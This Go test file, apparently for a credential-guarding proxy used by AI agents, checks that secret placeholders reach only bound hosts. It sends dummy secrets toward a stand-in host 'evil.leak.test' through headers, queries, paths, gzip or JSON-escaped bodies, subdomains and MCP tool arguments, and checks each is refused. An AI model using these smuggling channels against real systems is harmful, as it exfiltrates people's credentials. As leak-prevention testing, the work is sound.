package test

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/agentg/agentg/internal/testenv"
)

// Issue 16, placeholders and the leak guard: an agent handed agentg:NAME
// gets the value swapped in toward the hosts a binding of NAME names and
// refused anywhere else; a value agentg holds, sent by the agent toward a
// host no binding of it names (in a header, the URL, the body, an MCP
// tool's arguments), is refused, each with one event naming the secret.

const (
	// leakGH contains only characters a URL carries as they are.
	leakGH = "ghp_L34kT3stV4lue9f8e7d6c1b2a"
	// leakSub is a value a host name can hold.
	leakSub = "k7x2m9q4w8e1r5t3zz"
	// leakTok is the value the MCP tests send JSON-escaped.
	leakTok = "tok-<&>-M3cpL34k-5e6f7a8b9c"
)

func leakPolicy() string {
	return `
default: deny
ips:
  - allow: 127.0.0.1/32
hosts:
  - allow: [api.leak.test, evil.leak.test, mcp.leak.test, mcpok.leak.test]
resolve:
  api.leak.test: [127.0.0.1]
  evil.leak.test: [127.0.0.1]
  mcp.leak.test: [127.0.0.1]
  mcpok.leak.test: [127.0.0.1]
intercept: [api.leak.test, evil.leak.test, mcp.leak.test, mcpok.leak.test]
mcp:
  default: allow
  deny_as: error
  servers:
    - name: tools
      url: "mcp.leak.test/mcp/**"
    - name: toolsok
      url: "mcpok.leak.test/mcp/**"
credentials:
  secrets:
    gh: {env: AGENTG_TEST_LEAK_GH}
    tok: {command: [printf, "%s\n", "` + leakTok + `"], timeout: 5s}
    sub: {insecure_inline: ` + leakSub + `}    # bound nowhere: held all the same
  bindings:
    - id: gh-api
      host: api.leak.test
      secret: gh
      header: {name: Authorization, value: "Bearer {{secret}}"}
    - id: tok-api                 # never the first match: gh-api is
      host: api.leak.test
      path: /tok/**
      secret: tok
      query: tk
    - id: tok-mcp
      host: mcpok.leak.test
      secret: tok
      header: {name: X-Tok, value: "{{secret}}"}
`
}

// seenLeak is one request an upstream received.
type seenLeak struct {
	path, query string
	header      http.Header
	body        string
}

// leakRecorder is an upstream handler that keeps what it saw.
type leakRecorder struct {
	mu   sync.Mutex
	seen []seenLeak
}

func (rc *leakRecorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	rc.mu.Lock()
	rc.seen = append(rc.seen, seenLeak{r.URL.Path, r.URL.RawQuery, r.Header.Clone(), string(b)})
	rc.mu.Unlock()
	io.WriteString(w, "ok")
}

func (rc *leakRecorder) count() int { rc.mu.Lock(); defer rc.mu.Unlock(); return len(rc.seen) }

func (rc *leakRecorder) since(n int) []seenLeak {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	return append([]seenLeak(nil), rc.seen[n:]...)
}

func (rc *leakRecorder) last() seenLeak {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	if len(rc.seen) == 0 {
		return seenLeak{}
	}
	return rc.seen[len(rc.seen)-1]
}

// pctAll percent-encodes every byte of s.
func pctAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

// jsonEscAll writes every byte of s as a \u00XX escape.
func jsonEscAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, `\u%04x`, s[i])
	}
	return b.String()
}

type leakEnv struct {
	a         *testenv.Agentg
	c         *http.Client
	api, evil *leakRecorder
	apiURL    string
	evilURL   string
	stderr    *syncBuffer
	mcpSrv    *testenv.MCPServer
}

func startLeakEnv(t *testing.T) *leakEnv {
	t.Helper()
	upCA, err := testenv.NewCA("leak upstream root")
	if err != nil {
		t.Fatal(err)
	}
	e := &leakEnv{api: &leakRecorder{}, evil: &leakRecorder{}, stderr: &syncBuffer{}}
	start := func(name string, h http.Handler) *testenv.Upstream {
		cert, err := upCA.Leaf([]string{name}, time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		u := testenv.StartUpstream(testenv.UpstreamOptions{Cert: &cert, Handler: h})
		t.Cleanup(u.Close)
		return u
	}
	api := start("api.leak.test", e.api)
	evil := start("evil.leak.test", e.evil)
	e.apiURL, e.evilURL = "https://"+api.HostPort("api.leak.test"), "https://"+evil.HostPort("evil.leak.test")
	e.mcpSrv, err = testenv.StartMCPServer(testenv.MCPServerConfig{Mode: testenv.MCPStateful, CA: upCA,
		Hosts: []string{"mcp.leak.test", "mcpok.leak.test"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.mcpSrv.Close)

	dir := t.TempDir()
	caFile := filepath.Join(dir, "upstream-ca.pem")
	if err := upCA.WriteCert(caFile); err != nil {
		t.Fatal(err)
	}
	e.a, err = testenv.StartAgentg(testenv.AgentgConfig{Binary: agentgBin, Dir: filepath.Join(dir, "agentg"), Policy: leakPolicy(),
		Stderr: e.stderr, Env: append(os.Environ(), "AGENTG_TEST_LEAK_GH="+leakGH),
		Args: []string{"--upstream-ca", caFile, "--reload-interval", "0", "--shutdown-timeout", "2s"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.a.Kill)
	pool, err := e.a.CAPool()
	if err != nil {
		t.Fatal(err)
	}
	e.c = &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(e.a.URL()),
		TLSClientConfig: &tls.Config{RootCAs: pool}}}
	// Both secrets are read when the policy loads, before any use: the
	// guard says so in agentg's log.
	waitLogLine(t, e.a.LogFile, `"guarded":["gh","sub","tok"]`)
	return e
}

// waitLogLine waits until agentg's log file holds want.
func waitLogLine(t *testing.T, file, want string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		b, _ := os.ReadFile(file)
		if bytes.Contains(b, []byte(want)) {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("agentg's log never said %s:\n%s", want, b)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func (e *leakEnv) do(t *testing.T, method, u string, hdr http.Header, body io.Reader) (int, string) {
	t.Helper()
	req, err := http.NewRequest(method, u, body)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range hdr {
		req.Header[k] = v
	}
	resp, err := e.c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, u, err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, string(b)
}

// noValues fails when anything agentg wrote holds a value; it stops
// agentg first so that every line is written.
func (e *leakEnv) noValues(t *testing.T, names ...string) {
	t.Helper()
	e.a.Stop(2 * time.Second)
	logText, err := os.ReadFile(e.a.LogFile)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{leakGH, leakTok, leakSub} {
		if n := strings.Count(string(logText), v); n != 0 {
			t.Errorf("agentg's log holds a secret value %d times", n)
		}
		if n := strings.Count(e.stderr.String()+e.a.Stderr(), v); n != 0 {
			t.Errorf("agentg's stderr holds a secret value %d times", n)
		}
	}
	for _, n := range names {
		if !strings.Contains(string(logText), `"credential":"`+n+`"`) {
			t.Errorf("the log names no credential %s: the grep above proved little", n)
		}
	}
}

func TestCredLeakPlaceholders(t *testing.T) {
	e := startLeakEnv(t)

	// Toward its bound host a placeholder is swapped for the value in a
	// header, the query (also percent-encoded) and a JSON body, whose
	// Content-Length is fixed.
	st, body := e.do(t, "POST", e.apiURL+"/v1/x?key=agentg:gh&enc=agentg%3Agh&other=1",
		http.Header{"X-Token": {"token agentg:gh"}, "Content-Type": {"application/json"}},
		strings.NewReader(`{"token":"agentg:gh","n":1}`))
	if st != 200 {
		t.Fatalf("placeholders toward the bound host: %d %q", st, body)
	}
	got := e.api.last()
	if got.header.Get("X-Token") != "token "+leakGH || got.header.Get("Authorization") != "Bearer "+leakGH {
		t.Errorf("the upstream saw X-Token %q, Authorization %q", got.header.Get("X-Token"), got.header.Get("Authorization"))
	}
	if got.query != "key="+leakGH+"&enc="+leakGH+"&other=1" {
		t.Errorf("the upstream saw the query %q", got.query)
	}
	if got.body != `{"token":"`+leakGH+`","n":1}` {
		t.Errorf("the upstream saw the body %q", got.body)
	}
	waitEventOf(t, e.a, "the swapped request's event", func(ev map[string]any) bool {
		return ev["path"] == "/v1/x" && ev["decision"] == "allow" && ev["binding"] == "gh-api" && ev["credential"] == "gh" && ev["status"] == float64(200)
	})

	// A placeholder swaps toward any binding of its secret, not only the
	// one that attaches: the event names both secrets.
	if st, body := e.do(t, "GET", e.apiURL+"/tok/x", http.Header{"X-T": {"agentg:tok"}}, nil); st != 200 {
		t.Fatalf("a placeholder of another binding's secret: %d %q", st, body)
	}
	if got := e.api.last(); got.header.Get("X-T") != leakTok || got.header.Get("Authorization") != "Bearer "+leakGH || got.query != "" {
		t.Fatalf("the upstream saw %+v", got)
	}
	waitEventOf(t, e.a, "the event of the swap beside a binding", func(ev map[string]any) bool {
		return ev["path"] == "/tok/x" && ev["binding"] == "gh-api" && ev["credential"] == "gh,tok"
	})

	// Toward another host it is refused, never forwarded: the upstream
	// sees the marker sent after it, and nothing else.
	before := e.evil.count()
	if st, body := e.do(t, "GET", e.evilURL+"/ph/header", http.Header{"X-Token": {"agentg:gh"}}, nil); st != 403 || !strings.Contains(body, "builtin:placeholder") {
		t.Fatalf("a placeholder toward another host: %d %q", st, body)
	}
	if st, body := e.do(t, "POST", e.evilURL+"/ph/body", http.Header{"Content-Type": {"application/json"}}, strings.NewReader(`{"t":"agentg:gh"}`)); st != 403 {
		t.Fatalf("a placeholder in a body toward another host: %d %q", st, body)
	}
	if st, _ := e.do(t, "GET", e.evilURL+"/marker", nil, nil); st != 200 {
		t.Fatalf("marker: %d", st)
	}
	if after := e.evil.since(before); len(after) != 1 || after[0].path != "/marker" {
		t.Fatalf("after the refused placeholders the other upstream saw %+v, want the marker only", after)
	}
	for _, p := range []string{"/ph/header", "/ph/body"} {
		waitEventOf(t, e.a, "the refused placeholder's event at "+p, func(ev map[string]any) bool {
			reason, _ := ev["reason"].(string)
			return ev["path"] == p && ev["decision"] == "deny" && ev["rule"] == "builtin:placeholder" &&
				ev["credential"] == "gh" && ev["status"] == float64(403) && strings.Contains(reason, "agentg:gh")
		})
	}

	// A placeholder that names no secret is refused too, even toward a
	// bound host.
	before = e.api.count()
	if st, _ := e.do(t, "GET", e.apiURL+"/ph/unknown", http.Header{"X-Token": {"agentg:github"}}, nil); st != 403 {
		t.Fatalf("an unknown placeholder: %d", st)
	}
	if st, _ := e.do(t, "GET", e.apiURL+"/marker", nil, nil); st != 200 {
		t.Fatal("marker")
	}
	if after := e.api.since(before); len(after) != 1 || after[0].path != "/marker" {
		t.Fatalf("after the unknown placeholder the upstream saw %+v", after)
	}
	waitEventOf(t, e.a, "the unknown placeholder's event", func(ev map[string]any) bool {
		return ev["path"] == "/ph/unknown" && ev["rule"] == "builtin:placeholder" && ev["credential"] == "github"
	})
	e.noValues(t, "gh")
}

func TestCredLeakValues(t *testing.T) {
	e := startLeakEnv(t)
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte("token=" + leakGH))
	zw.Close()
	cases := []struct {
		name, method, path string
		hdr                http.Header
		body               []byte
	}{
		{"the agent's Authorization", "GET", "/leak/auth", http.Header{"Authorization": {"Bearer " + leakGH}}, nil},
		{"another header", "GET", "/leak/header", http.Header{"X-Note": {"see " + leakGH + " here"}}, nil},
		{"a query", "GET", "/leak/query?k=" + leakGH, nil, nil},
		{"a percent-encoded query", "GET", "/leak/pquery?k=" + pctAll(leakGH), nil, nil},
		{"the path", "GET", "/leak/" + leakGH, nil, nil},
		{"a body", "POST", "/leak/body", http.Header{"Content-Type": {"text/plain"}}, []byte("my key is " + leakGH)},
		{"a JSON-escaped body", "POST", "/leak/json", http.Header{"Content-Type": {"application/json"}}, []byte(`{"k":"` + jsonEscAll(leakTok) + `"}`)},
		{"a gzip body", "POST", "/leak/gzip", http.Header{"Content-Encoding": {"gzip"}}, gz.Bytes()},
	}
	before := e.evil.count()
	for _, c := range cases {
		var body io.Reader
		if c.body != nil {
			body = bytes.NewReader(c.body)
		}
		st, text := e.do(t, c.method, e.evilURL+c.path, c.hdr, body)
		if st != 403 || !strings.Contains(text, "builtin:credential-leak") {
			t.Errorf("%s toward an unbound host: %d %q", c.name, st, text)
		}
		if strings.Contains(text, leakGH) || strings.Contains(text, leakTok) {
			t.Errorf("%s: the refusal shows the value: %q", c.name, text)
		}
	}
	if st, _ := e.do(t, "GET", e.evilURL+"/marker", nil, nil); st != 200 {
		t.Fatal("marker")
	}
	if after := e.evil.since(before); len(after) != 1 || after[0].path != "/marker" {
		t.Fatalf("the unbound upstream saw %+v, want the marker only", after)
	}
	for _, c := range cases {
		path, _, _ := strings.Cut(c.path, "?")
		secret := "gh"
		if c.name == "a JSON-escaped body" {
			secret = "tok"
		}
		if c.name == "the path" {
			path = "/leak/secret(gh)" // the event masks the value
		}
		waitEventOf(t, e.a, "the refusal of "+c.name, func(ev map[string]any) bool {
			return ev["path"] == path && ev["decision"] == "deny" && ev["rule"] == "builtin:credential-leak" &&
				ev["credential"] == secret && ev["status"] == float64(403)
		})
	}

	// A value made into a host name is refused at the CONNECT, before
	// the name is decided or resolved; the tunnel's event masks it.
	if _, err := e.c.Get("https://" + leakSub + ".evil.leak.test:443/x"); err == nil || !strings.Contains(err.Error(), "Forbidden") {
		t.Fatalf("a value in a host name: %v", err)
	}
	waitEventOf(t, e.a, "the refused CONNECT's event", func(ev map[string]any) bool {
		return ev["kind"] == "connect" && ev["host"] == "secret(sub).evil.leak.test" && ev["rule"] == "builtin:credential-leak" &&
			ev["credential"] == "sub"
	})

	// The same value toward its bound host passes (it is where the value
	// goes anyway), and the event of a path holding it masks it.
	if st, body := e.do(t, "GET", e.apiURL+"/ok/"+leakGH, http.Header{"X-Token": {leakGH}}, nil); st != 200 {
		t.Fatalf("the value toward its bound host: %d %q", st, body)
	}
	if got := e.api.last(); got.header.Get("X-Token") != leakGH || got.path != "/ok/"+leakGH {
		t.Fatalf("the bound upstream saw %+v", got)
	}
	waitEventOf(t, e.a, "the bound request's event", func(ev map[string]any) bool {
		return ev["path"] == "/ok/secret(gh)" && ev["decision"] == "allow" && ev["status"] == float64(200)
	})
	e.noValues(t, "gh", "tok", "sub")
}

// An MCP tool's arguments are checked after JSON decoding: the Go SDK
// client sends arguments with every byte of the value a \u escape, and so
// does a raw client; both are refused toward a server no binding of the
// secret names, with a JSON-RPC error and one event, while the same call
// to the bound server passes and its event masks the value.
func TestCredLeakMCP(t *testing.T) {
	e := startLeakEnv(t)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	pool, _ := e.a.CAPool()
	via := testenv.MCPClientConfig{Proxy: e.a.URL(), Roots: pool, Revision: "2025-11-25"}
	cl, err := testenv.ConnectMCP(ctx, testenv.MCPStateful, "https://mcp.leak.test:"+e.mcpSrv.Port+"/mcp", via)
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()

	// The arguments as the client's code wrote them, every byte of the
	// value a \u escape: the SDK sends them as they are.
	calls := e.mcpSrv.Calls(testenv.MCPToolEcho)
	_, err = cl.CallTool(ctx, &mcp.CallToolParams{Name: testenv.MCPToolEcho,
		Arguments: json.RawMessage(`{"text":"x ` + jsonEscAll(leakTok) + `"}`)})
	if err == nil || !strings.Contains(err.Error(), "secret tok") {
		t.Fatalf("a tool call carrying a value to an unbound server: %v", err)
	}
	if strings.Contains(err.Error(), leakTok) {
		t.Fatalf("the JSON-RPC error shows the value: %v", err)
	}
	res, err := cl.CallTool(ctx, &mcp.CallToolParams{Name: testenv.MCPToolEcho, Arguments: map[string]any{"text": "marker"}})
	if err != nil || res.IsError {
		t.Fatalf("marker call: %v %+v", err, res)
	}
	if n := e.mcpSrv.Calls(testenv.MCPToolEcho); n != calls+1 || !strings.Contains(string(e.mcpSrv.LastArguments(testenv.MCPToolEcho)), "marker") {
		t.Fatalf("the server ran echo %d times after the refusal, want the marker only", n-calls)
	}
	waitEventOf(t, e.a, "the refused tool call's event", func(ev map[string]any) bool {
		args, _ := ev["args"].(string)
		return ev["kind"] == "mcp" && ev["decision"] == "deny" && ev["rule"] == "builtin:credential-leak" &&
			ev["credential"] == "tok" && ev["tool"] == testenv.MCPToolEcho && strings.Contains(args, "secret(tok)")
	})

	// Every byte escaped, by a raw client of the same session's kind.
	raw := testenv.NewMCPRaw(cl.HTTP, testenv.MCPStateful, "https://mcp.leak.test:"+e.mcpSrv.Port+"/mcp", "2025-11-25")
	defer raw.Close()
	if err := raw.Open(ctx); err != nil {
		t.Fatal(err)
	}
	body := `{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"echo","arguments":{"text":"` + jsonEscAll(leakGH) + `"}}}`
	rep, err := raw.Post(ctx, testenv.MCPPost{Body: []byte(body)})
	if err != nil {
		t.Fatal(err)
	}
	if m := rep.ByID("7"); !bytes.Contains(m, []byte(`"error"`)) || !bytes.Contains(m, []byte("builtin:credential-leak")) {
		t.Fatalf("an escaped value in a raw tool call: %d %s", rep.Status, rep.Body)
	}
	if n := e.mcpSrv.Calls(testenv.MCPToolEcho); n != calls+1 {
		t.Fatalf("the escaped call ran (%d runs)", n-calls)
	}
	waitEventOf(t, e.a, "the escaped call's event", func(ev map[string]any) bool {
		return ev["kind"] == "mcp" && ev["rule"] == "builtin:credential-leak" && ev["credential"] == "gh"
	})

	// The bound server gets the value, the call runs, the event masks it.
	ok, err := testenv.ConnectMCP(ctx, testenv.MCPStateful, "https://mcpok.leak.test:"+e.mcpSrv.Port+"/mcp", via)
	if err != nil {
		t.Fatal(err)
	}
	defer ok.Close()
	res, err = ok.CallTool(ctx, &mcp.CallToolParams{Name: testenv.MCPToolEcho,
		Arguments: json.RawMessage(`{"text":"x ` + jsonEscAll(leakTok) + `"}`)})
	if err != nil || res.IsError {
		t.Fatalf("the call to the bound server: %v %+v", err, res)
	}
	var seen struct{ Text string }
	if json.Unmarshal(e.mcpSrv.LastArguments(testenv.MCPToolEcho), &seen); seen.Text != "x "+leakTok {
		t.Fatalf("the bound server saw %s", e.mcpSrv.LastArguments(testenv.MCPToolEcho))
	}
	// The SDK sent the escaped arguments as they were: the raw body did
	// not hold the value, so the refusal above was of the decoded ones.
	escaped := false
	for _, rq := range e.mcpSrv.Requests() {
		escaped = escaped || bytes.Contains(rq.Body, []byte(jsonEscAll(leakTok)))
	}
	if !escaped {
		t.Fatal("no call the bound server received holds the value \\u-escaped")
	}
	// A placeholder in a tool's arguments: swapped for the value (JSON-
	// escaped) toward the bound server, refused toward the other.
	res, err = ok.CallTool(ctx, &mcp.CallToolParams{Name: testenv.MCPToolEcho, Arguments: map[string]any{"text": "use agentg:tok"}})
	if err != nil || res.IsError {
		t.Fatalf("a placeholder to the bound server: %v %+v", err, res)
	}
	if json.Unmarshal(e.mcpSrv.LastArguments(testenv.MCPToolEcho), &seen); seen.Text != "use "+leakTok {
		t.Fatalf("the bound server saw %s for the placeholder", e.mcpSrv.LastArguments(testenv.MCPToolEcho))
	}
	waitEventOf(t, e.a, "the swapped call's event", func(ev map[string]any) bool {
		args, _ := ev["args"].(string)
		return ev["kind"] == "mcp" && ev["decision"] == "allow" && ev["host"] == "mcpok.leak.test" && ev["credential"] == "tok" &&
			strings.Contains(args, "use agentg:tok")
	})
	runs := e.mcpSrv.Calls(testenv.MCPToolEcho)
	if _, err := cl.CallTool(ctx, &mcp.CallToolParams{Name: testenv.MCPToolEcho, Arguments: map[string]any{"text": "use agentg:tok"}}); err == nil ||
		!strings.Contains(err.Error(), "agentg:tok") {
		t.Fatalf("a placeholder to the unbound server: %v", err)
	}
	if e.mcpSrv.Calls(testenv.MCPToolEcho) != runs {
		t.Fatal("the call with a refused placeholder ran")
	}
	waitEventOf(t, e.a, "the refused placeholder's event", func(ev map[string]any) bool {
		return ev["kind"] == "mcp" && ev["rule"] == "builtin:placeholder" && ev["credential"] == "tok" && ev["host"] == "mcp.leak.test"
	})
	waitEventOf(t, e.a, "the bound call's event", func(ev map[string]any) bool {
		args, _ := ev["args"].(string)
		return ev["kind"] == "mcp" && ev["decision"] == "allow" && ev["host"] == "mcpok.leak.test" &&
			ev["tool"] == testenv.MCPToolEcho && strings.Contains(args, "secret(tok)")
	})
	ok.Close()
	cl.Close()
	e.noValues(t, "gh", "tok")
}

// A rotated secret file is read again on reload, at once; the value it
// had is still looked for (an agent once given it may still use it), and
// both still go where the binding sends them.
func TestCredLeakReload(t *testing.T) {
	upCA, err := testenv.NewCA("leak reload root")
	if err != nil {
		t.Fatal(err)
	}
	rc := &leakRecorder{}
	cert, err := upCA.Leaf([]string{"api.leak.test", "evil.leak.test"}, time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	up := testenv.StartUpstream(testenv.UpstreamOptions{Cert: &cert, Handler: rc})
	defer up.Close()
	dir := t.TempDir()
	caFile := filepath.Join(dir, "upstream-ca.pem")
	if err := upCA.WriteCert(caFile); err != nil {
		t.Fatal(err)
	}
	const v1, v2 = "rot-value-one-8c1f2e", "rot-value-two-3b9a7d"
	file := filepath.Join(dir, "gh.token")
	os.WriteFile(file, []byte(v1+"\n"), 0o600)
	policy := strings.Replace(leakPolicy(), "gh: {env: AGENTG_TEST_LEAK_GH}", "gh: {file: "+file+"}", 1)
	stderr := &syncBuffer{}
	a, err := testenv.StartAgentg(testenv.AgentgConfig{Binary: agentgBin, Dir: filepath.Join(dir, "agentg"), Policy: policy,
		Stderr: stderr, Args: []string{"--upstream-ca", caFile, "--reload-interval", "0", "--shutdown-timeout", "2s"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(a.Kill)
	pool, err := a.CAPool()
	if err != nil {
		t.Fatal(err)
	}
	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(a.URL()), TLSClientConfig: &tls.Config{RootCAs: pool}}}
	send := func(host, path, value string) int {
		t.Helper()
		req, _ := http.NewRequest("GET", "https://"+up.HostPort(host)+path, nil)
		req.Header.Set("X-Token", value)
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	waitLogLine(t, a.LogFile, `"guarded":["gh","sub","tok"]`)
	if st := send("evil.leak.test", "/r/one", v1); st != 403 {
		t.Fatalf("the first value toward an unbound host: %d", st)
	}

	os.WriteFile(file, []byte(v2+"\n"), 0o600)
	logged, _ := os.ReadFile(a.LogFile)
	before := bytes.Count(logged, []byte(`"guarded":["gh","sub","tok"]`))
	if err := a.Signal(syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		logged, _ = os.ReadFile(a.LogFile)
		if bytes.Count(logged, []byte(`"guarded":["gh","sub","tok"]`)) > before {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the reload's secrets were never read:\n%s", logged)
		}
		time.Sleep(20 * time.Millisecond)
	}
	n := rc.count()
	if st := send("evil.leak.test", "/r/two", v2); st != 403 {
		t.Fatalf("the rotated value toward an unbound host: %d", st)
	}
	if st := send("evil.leak.test", "/r/old", v1); st != 403 {
		t.Fatalf("the value before rotation toward an unbound host: %d", st)
	}
	if st := send("api.leak.test", "/r/bound", v1); st != 200 {
		t.Fatalf("the old value toward its bound host: %d", st)
	}
	if got := rc.since(n); len(got) != 1 || got[0].path != "/r/bound" || got[0].header.Get("Authorization") != "Bearer "+v2 {
		t.Fatalf("after the reload the upstream saw %+v, want /r/bound with the new value attached", got)
	}
	for _, p := range []string{"/r/two", "/r/old"} {
		waitEventOf(t, a, "the refusal at "+p, func(ev map[string]any) bool {
			return ev["path"] == p && ev["rule"] == "builtin:credential-leak" && ev["credential"] == "gh"
		})
	}
	a.Stop(2 * time.Second)
	logText, _ := os.ReadFile(a.LogFile)
	for _, v := range []string{v1, v2, leakTok} {
		if strings.Contains(string(logText), v) || strings.Contains(stderr.String()+a.Stderr(), v) {
			t.Errorf("agentg wrote a secret value")
		}
	}
}
